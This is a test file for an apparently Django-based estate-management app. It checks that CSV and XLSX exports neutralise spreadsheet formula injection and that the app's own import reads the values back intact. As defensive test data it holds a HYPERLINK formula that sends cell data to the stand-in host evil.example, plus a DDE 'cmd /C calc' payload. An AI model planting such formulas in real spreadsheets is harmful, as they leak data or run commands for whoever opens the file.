"""Spreadsheet exports never hand out a live formula (formula injection): a resident who registers
as ``=HYPERLINK(…)`` is text in every .xlsx and .csv we write, and our own import reads it back."""

import csv
import io
import pathlib
import re

import pytest
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from guanjia.core.roles import Role
from guanjia.dataio import spreadsheets
from guanjia.dataio.importing import read_table
from guanjia.estates.models import Resident
from guanjia.testing import factories as f

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点我领红包")'
OTHERS = ["+86 cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)"]


def xlsx_cells(content: bytes) -> dict:
    """Every text cell of the first sheet: value → data type ('s' text, 'f' formula)."""
    book = load_workbook(io.BytesIO(content))
    sheet = book.worksheets[0]
    return {c.value: (c.data_type, c.quotePrefix) for row in sheet.iter_rows() for c in row if c.value}


def csv_cells(content: bytes) -> set:
    return {v for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for v in row}


@pytest.mark.django_db
@pytest.mark.parametrize("resource", ["residents", "occupancies"])
def test_a_resident_named_like_a_formula_is_text_in_every_export(world, resource):
    Resident.objects.filter(pk=world.resident.pk).update(name=EVIL, note=OTHERS[0])
    client = Client()
    client.force_login(world.manager)
    xlsx = client.get(f"/data/export/{resource}.xlsx")
    assert xlsx.status_code == 200
    cells = xlsx_cells(xlsx.content)
    assert cells[EVIL] == ("s", True)  # exact text, never a formula
    text = client.get(f"/data/export/{resource}.csv")
    values = csv_cells(text.content)
    assert "'" + EVIL in values and EVIL not in values
    # What we wrote, we read back as it was stored.
    back = read_table(io.BytesIO(text.content), "export.csv")
    assert EVIL in {v for row in back for v in row}


@pytest.mark.django_db
def test_staff_export_escapes_names_too(world):
    f.make_staff(company=world.company, roles=[Role.TECHNICIAN], projects=[world.project], name="@SUM(1,1)")
    client = Client()
    client.force_login(world.admin)
    assert xlsx_cells(client.get("/data/export/staff.xlsx").content)["@SUM(1,1)"] == ("s", True)
    assert "'@SUM(1,1)" in csv_cells(client.get("/data/export/staff.csv").content)


# Text as people type it (control characters other than tab and CR cannot be in an .xlsx at all).
TYPED = st.text(st.characters(blacklist_categories=("Cs", "Cc")) | st.sampled_from("\t\r=+-@'"), min_size=1)


@settings(deadline=None, max_examples=60)
@given(TYPED)
def test_every_text_survives_a_round_trip_and_none_is_a_formula(text):
    content = spreadsheets.rows_to_xlsx([[text]], title="t")
    cell = load_workbook(io.BytesIO(content)).worksheets[0]["A1"]
    assert cell.data_type != "f"
    assert cell.value == text.replace("\r\n", "\n").replace("\r", "\n")  # XML keeps no bare CR
    written = spreadsheets.rows_to_csv([[text]])
    (value,) = next(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")))
    assert not spreadsheets.is_formula_like(value)
    assert spreadsheets.unescape_csv_cell(value) == text


def test_numbers_stay_numbers():
    assert spreadsheets.csv_cell(-5) == -5
    assert spreadsheets.rows_to_csv([[-5, "-5"]]).decode("utf-8-sig").strip() == "-5,'-5"


def test_every_spreadsheet_is_written_by_the_one_helper():
    """A new export that opens its own workbook or CSV writer skips the escaping: refuse it."""
    root = pathlib.Path(__file__).resolve().parents[2]
    writers = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|\.to_excel\(|\.to_csv\(")
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "tests" not in path.parts
        and path.name != "spreadsheets.py"
        # The local fakes write a provider's own files (a gateway's trade bill), not an export of ours.
        and not (path.parent.name == "testing" and path.name.startswith("fake_"))
        and writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
